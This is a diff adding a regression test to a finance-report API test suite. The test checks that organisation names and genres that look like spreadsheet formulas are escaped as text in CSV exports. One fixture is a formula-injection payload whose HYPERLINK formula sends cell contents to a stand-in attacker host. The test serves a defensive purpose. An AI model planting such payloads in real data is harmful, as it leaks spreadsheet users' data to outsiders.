@@ -755,6 +755,30 @@ describe('Finance', () => {
       });
     });
 
+    it('writes names and genres that a spreadsheet would run as formulas as text in both CSVs', async () => {
+      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Studio")';
+      await t
+        .http()
+        .patch(`${API}/organisations/${s2.admin.organisationId}`)
+        .set(...bearer(s2.admin))
+        .send({ name: formula })
+        .expect(200);
+      await t.db.query(
+        `UPDATE briefs SET genre = '-1-1' WHERE id = (SELECT brief_id FROM contracts WHERE id = $1)`,
+        [c2.contractId],
+      );
+      const csv = async (path: string): Promise<string[][]> =>
+        csvOf(await get(path, b.finance).set('Accept', 'text/csv').buffer(true).parse(binary));
+      const byStudio = await csv('/reports/finance/spend?groupBy=studio');
+      expect(byStudio.find((r) => r[0] === s2.admin.organisationId)?.[1]).toBe(`'${formula}`);
+      const payables = await csv('/reports/finance/payables');
+      expect(payables.find((r) => r[0] === s2.admin.organisationId)?.[1]).toBe(`'${formula}`);
+      const byGenre = await csv('/reports/finance/spend?groupBy=genre');
+      expect(byGenre.map((r) => r[0])).toContain("'-1-1");
+      // amounts stay numbers a spreadsheet can add up
+      expect(byGenre.slice(1).every((r) => /^\d+$/.test(r[3]!))).toBe(true);
+    });
+
     it('refuses commissioners and studio finance with 403', async () => {
       for (const who of [b.commissioner, s1.finance, s1.producer]) {
         expectProblem(await spend('studio', who), 403);
